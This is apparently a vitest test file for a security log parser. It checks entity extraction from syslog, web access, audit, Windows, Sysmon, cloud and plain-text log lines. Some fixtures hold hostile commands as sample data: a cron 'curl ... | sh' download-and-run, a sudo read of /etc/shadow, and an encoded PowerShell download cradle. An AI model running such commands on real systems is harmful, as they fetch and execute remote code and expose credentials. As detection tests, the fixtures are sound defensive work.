import { describe, expect, it } from "vitest";
import type { LogFormatName, LogLine } from "@lagebild/domain";
import { detectFormat } from "../formats/detect-format.js";
import { sliceParser } from "../records/parse-slice.js";

const logLine = (text: string, line = 1): LogLine => ({
  line,
  byteOffset: 0,
  byteLength: text.length,
  text: text as LogLine["text"],
  isCut: false,
});

const entitiesOf = (text: string, format: LogFormatName = detectFormat([text])): readonly string[] =>
  (sliceParser(format, { year: 2026 }).parse(logLine(text))?.entities ?? []).map(
    ({ kind, value }) => `${kind} ${value}`,
  );

const json = (object: object): string => JSON.stringify(object);

describe("entities of a line of syslog", () => {
  it.each([
    [
      "Mar 14 03:11:02 bastion sshd[1503]: Failed password for invalid user admin from 203.0.113.7 port 51122 ssh2",
      ["account admin", "address 203.0.113.7", "port 51122", "session bastion:sshd[1503]"],
    ],
    [
      "Mar 14 03:11:02 bastion sshd[1503]: Accepted publickey for svc-backup from 2001:DB8:0:0::7 port 22 ssh2: RSA SHA256:BBuLpBBY6W7eCZ3PDYNlv4K",
      [
        "account svc-backup",
        "address 2001:db8::7",
        "port 22",
        "hash sha256:BBuLpBBY6W7eCZ3PDYNlv4K",
        "session bastion:sshd[1503]",
      ],
    ],
    [
      "Mar 14 03:12:00 bastion sudo:   backup : TTY=pts/0 ; PWD=/home/backup ; USER=root ; COMMAND=/usr/bin/less /etc/shadow",
      ["path /home/backup", "account root", "path /usr/bin/less", "path /etc/shadow", "account backup", "process less"],
    ],
    [
      "Mar 14 03:12:01 edge su: pam_unix(su-l:session): session opened for user root(uid=0) by backup(uid=34)",
      ["account root", "account backup"],
    ],
    [
      "Mar 14 03:12:02 edge sshd[9]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=host7.example.net  user=root",
      ["domain host7.example.net", "account root", "session edge:sshd[9]"],
    ],
    [
      "Mar 14 03:12:03 fw kernel: [ 42.1] IN=eth0 OUT= MAC=02:00:5e:10:00:01:02:00:5e:10:00:02:08:00 SRC=198.51.100.23 DST=192.0.2.10 LEN=60 PROTO=TCP SPT=40122 DPT=3389 SYN",
      ["address 198.51.100.23", "address 192.0.2.10", "port 40122", "port 3389"],
    ],
    [
      "Mar 14 03:12:04 ldap slapd[812]: conn=1001 fd=12 ACCEPT from IP=192.0.2.14:39182 (IP=0.0.0.0:389)",
      ["session conn=1001", "address 192.0.2.14", "port 39182", "address 0.0.0.0", "port 389"],
    ],
    [
      "Mar 14 03:12:05 mx postfix/smtp[77]: 3F2A91C0D2: to=<Bob@Example.org>, relay=mail.example.org[192.0.2.25]:25, status=sent",
      ["mail bob@example.org", "domain mail.example.org", "address 192.0.2.25"],
    ],
    [
      "Mar 14 03:12:06 web1 CRON[1]: (root) CMD (curl -s http://203.0.113.9:8080/a.sh?x=1&y=2 | sh)",
      ["url http://203.0.113.9:8080/a.sh?x=1&y=2", "address 203.0.113.9", "port 8080", "account root", "process curl"],
    ],
  ])("%s", (text, expected) => expect(entitiesOf(text)).toEqual(expected));
});

describe("entities of other lines", () => {
  it.each([
    [
      "web access",
      '203.0.113.7 - alice [14/Mar/2026:03:11:02 +0000] "GET /shop/item.php?id=7&next=http://evil.example.com/x HTTP/1.1" 200 1 "-" "curl/8.5.0"',
      [
        "url http://evil.example.com/x",
        "domain evil.example.com",
        "address 203.0.113.7",
        "path /shop/item.php",
        "account alice",
      ],
    ],
    [
      "audit",
      'type=SYSCALL msg=audit(1773460803.123:101): arch=c000003e syscall=59 success=yes ppid=7 pid=8 auid=1000 uid=0 ses=3 comm="curl" exe="/usr/bin/curl" key="net"',
      ["path /usr/bin/curl", "session session=3", "process curl", "account 1000"],
    ],
    [
      "Windows logon",
      json({
        EventID: 4624,
        Channel: "Security",
        Hostname: "FS01",
        TargetUserName: "Administrator",
        TargetDomainName: "EXAMPLE",
        TargetUserSid: "S-1-5-21-1004336348-1177238915-682003330-500",
        TargetLogonId: "0x1A2B3C",
        SubjectLogonId: "0x3e7",
        IpAddress: "::ffff:192.0.2.15",
        IpPort: "49210",
        WorkstationName: "WS07",
        LogonType: "3",
      }),
      [
        "account administrator",
        "address 192.0.2.15",
        "principal s-1-5-21-1004336348-1177238915-682003330-500",
        "session 0x1a2b3c",
        "port 49210",
        "host ws07",
      ],
    ],
    [
      "Sysmon",
      json({
        EventID: 1,
        Channel: "Microsoft-Windows-Sysmon/Operational",
        Image: "C:\\Program Files\\7-Zip\\7z.exe",
        User: "NT AUTHORITY\\SYSTEM",
        Hashes: "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E",
        ProcessGuid: "{39E4A257-79FB-5F92-7217-000000000700}",
        FileVersion: "10.0.0.1",
      }),
      [
        "path c:\\program files\\7-zip\\7z.exe",
        "process 7z.exe",
        "account system",
        "session 39e4a257-79fb-5f92-7217-000000000700",
      ],
    ],
    [
      "cloud",
      json({
        eventTime: "2026-03-14T03:11:02Z",
        eventName: "ConsoleLogin",
        userIdentity: {
          arn: "arn:aws:iam::123456789012:user/Mallory",
          accessKeyId: "ASIAIOSFODNN7EXAMPLE",
          userName: "Mallory",
        },
        sourceIPAddress: "203.0.113.7",
      }),
      [
        "address 203.0.113.7",
        "account mallory",
        "principal arn:aws:iam::123456789012:user/mallory",
        "session asiaiosfodnn7example",
      ],
    ],
    [
      "text",
      "2026-03-14 04:00:01 ERROR java.io.IOException at com.example.Main: version 10.1.2.3 of agent 4.0.0.0 saw CVE-2021-44228 at 12:34:56",
      ["cve CVE-2021-44228"],
    ],
  ] as const)("%s", (_, text, expected) => {
    expect([...entitiesOf(text)].sort()).toEqual([...expected].sort());
  });

  it("are those of what an encoded command says, too", () => {
    const command = Buffer.from(
      "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')",
      "utf16le",
    );
    const text = `2026-03-14 04:00:01 INFO started powershell.exe -enc ${command.toString("base64")}`;
    expect(entitiesOf(text)).toContain("url http://198.51.100.9/a.ps1");
    expect(entitiesOf(text)).toContain("address 198.51.100.9");
  });

  it("stand there once, however often the line names them", () => {
    const found = entitiesOf("2026-03-14 04:00:01 INFO 192.0.2.1 talks to 192.0.2.1 and 192.0.2.1");
    expect(found).toEqual(["address 192.0.2.1"]);
  });
});
